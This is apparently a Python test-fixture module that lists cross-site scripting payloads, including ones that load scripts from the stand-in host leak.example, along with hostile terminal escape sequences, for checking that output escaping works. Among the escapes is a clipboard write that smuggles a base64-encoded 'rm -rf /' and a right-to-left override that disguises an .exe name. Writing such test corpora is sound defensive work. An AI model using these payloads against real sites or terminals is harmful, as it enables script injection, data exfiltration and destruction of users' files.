"""Markup and text that would run in a browser, or be obeyed by a terminal, if anything were left unescaped.

Classes as OWASP's cheat sheets name them, in our own words.  Whatever runs counts itself in `top.ran`, opens a dialog,
or asks http://leak.example/.
"""

from __future__ import annotations

RUN = "top.ran=(top.ran||0)+1;alert(1)"
LEAK = "http://leak.example/"

MARKUP = (
    # scripts, whole, broken and nested
    f"<script>{RUN}</script>", f"<SCRIPT SRC={LEAK}x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script >", f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<script>{RUN}",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"<noscript><p title=\"</noscript><script>{RUN}</script>\">", f"<template><script>{RUN}</script></template>",
    # handlers
    f"<img src=x onerror='{RUN}'>", f"<img src=x onerror\n=\n'{RUN}'>", f"<img/src=x/onerror='{RUN}'>", f"<img src='x'onerror='{RUN}'>",
    f"<body onload='{RUN}'>", f"<details open ontoggle='{RUN}'><summary>x</summary></details>", f"<input autofocus onfocus='{RUN}'>",
    f"<video><source onerror='{RUN}'></video>", f"<audio src=x onerror='{RUN}'></audio>", f"<marquee onstart='{RUN}'>x</marquee>",
    f"<p style='animation:x 1s' onanimationstart='{RUN}'>x</p>", f"<x onpointerrawupdate='{RUN}' tabindex=1 autofocus onfocus='{RUN}'>x</x>",
    f"<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1);{RUN}\">", f"<img src=`x` onerror=`{RUN}`>", f"\" onmouseover=\"{RUN}\" x=\"", f"' autofocus onfocus='{RUN}' x='",
    # addresses that run
    f"<a href=\"javascript:{RUN}\">x</a>", f"<a href=\" \x01javascript:{RUN}\">x</a>", f"<a href=\"java\tscript:{RUN}\">x</a>", f"<a href=\"java&#10;script:{RUN}\">x</a>",
    f"<a href=\"&#106;&#97;&#118;&#97;script&colon;{RUN}\">x</a>", f"<a href=\"JaVaScRiPt&#58;{RUN}\">x</a>", f"<a href=\"javascript&NewLine;:{RUN}\">x</a>",
    f"<a href=\"vbscript:{RUN}\">x</a>", f"<a href=\"data:text/html,<script>{RUN}</script>\">x</a>", f"<form action=\"javascript:{RUN}\"><button>x</button></form>",
    f"<button formaction=\"javascript:{RUN}\">x</button>", f"<iframe src=\"javascript:{RUN}\"></iframe>", f"<object data=\"javascript:{RUN}\"></object>", f"<embed src=\"data:text/html,<script>{RUN}</script>\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">", f"<meta http-equiv=refresh content=\"0;url={LEAK}\">", f"<base href=\"{LEAK}\">", f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<iframe srcdoc=\"&lt;img src=x onerror='{RUN}'&gt;\"></iframe>", f"<link rel=stylesheet href=\"{LEAK}x.css\">", f"<link rel=preload as=script href=\"{LEAK}x.js\">",
    # other languages within the page
    f"<svg onload='{RUN}'></svg>", f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href='data:,{RUN}'></script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate xlink:href='#a' attributeName=href values='javascript:{RUN}'/><a id=a><text y=20>x</text></a></svg>", f"<svg><foreignObject><img src=x onerror='{RUN}'></foreignObject></svg>", f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\"/></svg>",
    f"<math href=\"javascript:{RUN}\">x</math>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='{RUN}'>",
    f"<svg></p><style><a id=\"</style><img src=x onerror='{RUN}'>\">", f"<math><annotation-xml encoding=\"text/html\"><script>{RUN}</script></annotation-xml></math>",
    f"<style>@import '{LEAK}x.css';</style>", f"<p style=\"background:url({LEAK}x.png)\">x</p>", f"<p style=\"width:expression({RUN})\">x</p>", f"<style>*{{background:url({LEAK}y)}}</style>",
    # templates, and words that are several things at once
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}", f"${{{RUN}}}", f"<%= {RUN} %>", "{{ config }} {{ 7*7 }} {{ self.__init__.__globals__ }}",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    f"'\"><img src=x onerror='{RUN}'>", f"<a href=\"https://x.example/\" target=_blank ping=\"{LEAK}\">x</a>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;", f"\ufe64script\ufe65{RUN}\ufe64/script\ufe65", f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b]8;;http://leak.example/\x1b\\link\x1b]8;;\x1b\\", "\x1b]0;title\x07", "\x1b[31mred", "\x1bP+q544e\x1b\\",
    "\x1b_Gi=1;AAAA\x1b\\", "\x1b[?1049h", "\x1b[6n", "\x1bc", "\x9b31m", "\x9d52;c;aGk=\x9c", "\x90q\x9c", "over\rwritten", "back\x08\x08", "\u202egnp.exe", "\u2066x\u2069", "\x00nul", "\x7fdel", "\x0e\x0f",
)  # fmt: skip
